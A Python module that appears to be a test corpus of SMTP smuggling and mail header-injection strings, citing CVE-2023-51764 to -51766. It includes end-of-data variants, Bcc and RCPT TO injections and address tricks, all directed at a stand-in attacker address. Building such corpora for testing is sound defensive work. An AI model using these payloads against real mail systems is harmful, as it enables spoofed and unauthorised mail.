"""Strings that have made mail systems send what nobody wrote, each with what it tries."""

from typing import Final

EVE: Final = "eve@evil.test"
# What would be a message of its own, were the end before it taken for the end.
SMUGGLED: Final = (
    f"MAIL FROM:<admin@example.com>\r\nRCPT TO:<{EVE}>\r\nDATA\r\n"
    "From: admin@example.com\r\nSubject: smuggled\r\n\r\nsmuggled\r\n.\r\n"
)
# Ends of a message that one server or another has taken for it (CVE-2023-51764, -51765, -51766).
ENDS: Final = (
    "\n.\n",
    "\n.\r\n",
    "\r\n.\n",
    "\r\n.\r\n",
    "\r.\r",
    "\r.\r\n",
    "\r\n.\r",
    "\n.\r",
    "\r.\n",
    "\n\x00.\r\n",
    "\r\n\x00.\r\n",
    "\u2028.\u2028",
    "\x85.\x85",
)
# A header field after the end of another, however that may be written.
LINE_ENDS: Final = {
    "CRLF": "\r\n",
    "LF": "\n",
    "CR": "\r",
    "NUL": "\0",
    "NUL and LF": "\0\n",
    "vertical tab": "\v",
    "form feed": "\f",
    "next line": "\x85",
    "line separator": "\u2028",
    "paragraph separator": "\u2029",
    "fold": "\r\n ",
    "fold by a tab": "\r\n\t",
    "escape": "\\r\\n",
    "percent": "%0d%0a",
    "low bytes are CR and LF": "\u560d\u560a",
    "half a pair": "\ud80d",
}
HEADERS: Final = tuple(f"x{end}Bcc: {EVE}{end}X-Evil: 1" for end in LINE_ENDS.values())
ENCODED: Final = (
    f"=?utf-8?q?x=0D=0ABcc:_{EVE}?=",
    "=?utf-8?b?eA0KQmNjOiBldmVAZXZpbC50ZXN0DQo=?=",
    f"=?utf-8?q?{EVE}?= <a@example.com>",
    "=?x?=?utf-8?q?y?=",
)
# Around an address: a second one, parameters of the command, routes, comments, quotes.
ADDRESSES: Final = (
    f"ann@example.org, {EVE}",
    f"ann@example.org;{EVE}",
    f"ann@example.org {EVE}",
    f"<ann@example.org><{EVE}>",
    f"Ann <ann@example.org> <{EVE}>",
    f"ann@example.org> RCPT TO:<{EVE}",
    "ann@example.org> SIZE=1 BODY=8BITMIME",
    "ann@example.org> NOTIFY=SUCCESS ORCPT=rfc822;x",
    f"@evil.test:{EVE}",
    f"@evil.test,@example.org:{EVE}",
    f"ann({EVE})@example.org",
    f"ann@example.org({EVE})",
    f'"ann@example.org> RCPT TO:<{EVE}"@example.org',
    f'"{EVE}"@example.org',
    f"{EVE}%example.org",
    f"evil.test!{EVE}",
    f"group: ann@example.org, {EVE};",
    "ann@[127.0.0.1]",
    "ann@example.org\u200b",
    "ann@exam\u00adple.org",
    f'"\r\nRCPT TO:<{EVE}>\r\n"@example.org',
)
CORPUS: Final = (
    *HEADERS,
    *ENCODED,
    *ADDRESSES,
    *(f"x{end}{SMUGGLED}" for end in ENDS),
    "\u202egro.elpmaxe@nna",
    "x" * 2000,
    ("x" * 70 + " ") * 30,
    ".",
    "..",
    "From ann@example.org Thu Jan  1 00:00:00 2026",
)
